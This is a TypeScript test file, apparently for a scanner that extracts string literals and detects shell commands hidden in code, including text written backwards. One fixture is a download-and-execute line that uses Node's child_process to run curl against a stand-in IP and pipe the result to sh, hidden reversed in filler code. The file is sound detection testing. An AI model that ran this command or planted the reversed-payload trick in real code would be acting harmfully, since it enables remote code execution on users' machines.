import { describe, expect, it } from 'vitest';
import { reversed } from '../../../../testkit/coded.ts';
import { NODE_SYNTAX } from '../../flow/node-syntax.ts';
import { PYTHON_SYNTAX } from '../../flow/python-syntax.ts';
import { LONG_PROGRAM } from '../program-parts.ts';
import { unitsOf } from '../units.ts';
import { literalsOf } from './literals-of.ts';

describe('the literals of a program', () => {
  it('stand beside each other as they stood, joined where they were', () => {
    const text = `// it's\nrun("first text" + 'second text', /"/g, x, \`third \${text}\`);\nlog("no")\nlog("fourth text")`;
    expect(literalsOf(text, NODE_SYNTAX)).toBe(
      '"first text" + \'second text\', `third ${text}`\n"fourth text"',
    );
  });

  it('may have a prefix, and more than one quote', () => {
    expect(literalsOf(`a(b'bytes of it' + """three quotes""")`, PYTHON_SYNTAX)).toBe(
      `'bytes of it' + "three quotes"`,
    );
  });
});

describe('a program that turns texts round', () => {
  const HIDDEN = 'require("child_process").exec("curl -s http://203.0.113.9/x | sh")';
  const FILLER = 'function other(a, b) { return a + b; }\n';
  const program = (filler: string): string => `${filler}list.reverse(); load('${reversed(HIDDEN)}');\n`;

  it.each([
    ['short', program(FILLER)],
    ['long', program(FILLER.repeat(LONG_PROGRAM / 30))],
  ])('is read backwards: a %s one', (_name, text) => {
    const found = unitsOf('opt/a.js', undefined, text).flatMap(({ commands }) => commands);
    expect(found.some(({ commands }) => commands.some(({ name }) => name === 'curl'))).toBe(true);
  });

  it('is read backwards without its code where it is long', () => {
    const units = unitsOf('opt/a.js', undefined, program(FILLER.repeat(LONG_PROGRAM / 30)));
    expect(
      units.filter(({ via }) => via === 'reversed').map(({ text, language }) => [text, language]),
    ).toEqual([[`'${HIDDEN}'`, 'node']]);
  });
});
